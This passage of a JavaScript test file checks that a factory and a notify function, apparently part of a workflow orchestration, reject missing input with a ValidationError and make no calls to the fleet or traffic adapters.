      const error = await expectRejection(call(factory, adapters, noInput));
      expect([error.name, error.message]).toEqual(['ValidationError', expect.stringContaining('input')]);
    }
    const error = await expectRejection(call(notify, adapters, { state: noInput, executionArn: EXECUTION_ARN }));
    expect([error.name, error.message]).toEqual(['ValidationError', expect.stringContaining('state.input')]);
    expect(adapters.fleet.calls).toEqual([]);
    expect(adapters.traffic.calls).toEqual([]);
  });
});
